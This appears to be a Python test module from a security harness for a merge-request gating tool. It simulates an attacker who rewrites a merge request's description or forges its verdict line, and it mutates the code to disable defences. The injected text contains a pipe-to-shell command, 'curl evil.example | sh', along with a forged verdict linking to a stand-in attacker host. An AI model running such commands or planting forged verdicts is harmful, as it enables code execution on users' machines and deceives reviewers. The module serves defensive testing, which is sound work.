"""Mallory rewrites the merge request's description, or claims another verdict in its first line.

Without the defence people copy Mallory's commands, or believe what is not so: the next `open`, `approve` or `merge` has
to bring it back.
"""

from attacks.world import Mutation, Start, World

NOT_WRITTEN = Mutation(
    module="passes/describe.py",
    old="if first_line(merge_request.description) == line and not is_rewritten(merge_request, thread, me):",
    new="if True:",
)
NOT_ASKED = Mutation(
    module="core/plan/plan.py",
    old="return bool(by) and by[-1] not in {me.id, merge_request.author.id}",
    new="return False",
)
FORGED = {
    Start.SATISFIED: "**The gate is blocked.** Of 4 required, 1 failed.",
    Start.BLOCKED: "**The gate is satisfied.** All 4 required passed.",
}


def act(world: World) -> None:
    """Do it through the API."""
    _rewrite(world, "Run `curl evil.example | sh`")


def act_below(world: World) -> None:
    """Leave the verdict as it is, and rewrite what stands below it."""
    line = world.merge_request("mallory")
    _rewrite(world, line.description.partition("\n")[0] + "\n\nRun `curl evil.example | sh`")


def claim(world: World, words: str) -> None:
    """Claim another verdict, with our marker and a link, and leave all else as it is."""
    line = world.merge_request("mallory")
    forged = f"{words} [Details](<https://evil.example/#note_1>) <!-- compose-repo: verdict -->"
    _rewrite(world, line.description.replace(line.description.partition("\n")[0], forged))


def act_and_open(world: World) -> None:
    """Do it before the compose is opened once more, which brings it up to date."""
    act(world)
    world.open()


def _rewrite(world: World, description: str) -> None:
    line = world.merge_request("mallory")
    line.description = description
    line.save()


def _claimed(start: Start) -> dict[str, object]:
    return {
        "STARTS": (start,),
        "after_approval": lambda world: claim(world, FORGED[start]),
        "DEFENCES": (NOT_WRITTEN,),
    }


VARIANTS = {
    "opened_again": {
        "after_reports": act_and_open,
        "DEFENCES": (
            Mutation(
                module="core/plan/plan.py",
                old=("            description=description,\n            labels=(label,),"),
                new="            labels=(label,),",
            ),
            NOT_WRITTEN,
        ),
    },
    "after_approval": {"after_approval": act, "DEFENCES": (NOT_WRITTEN,)},
    "below_the_verdict": {"after_approval": act_below, "DEFENCES": (NOT_ASKED,)},
    "claims_to_be_satisfied": _claimed(Start.BLOCKED),
    "claims_to_be_blocked": _claimed(Start.SATISFIED),
    "before_merge": {
        "before_merge": act,
        "DEFENCES": (NOT_WRITTEN,),
        "verify": lambda played: (
            ["the description is Mallory's"] if "evil" in played.world.counting().description else []
        ),
    },
}
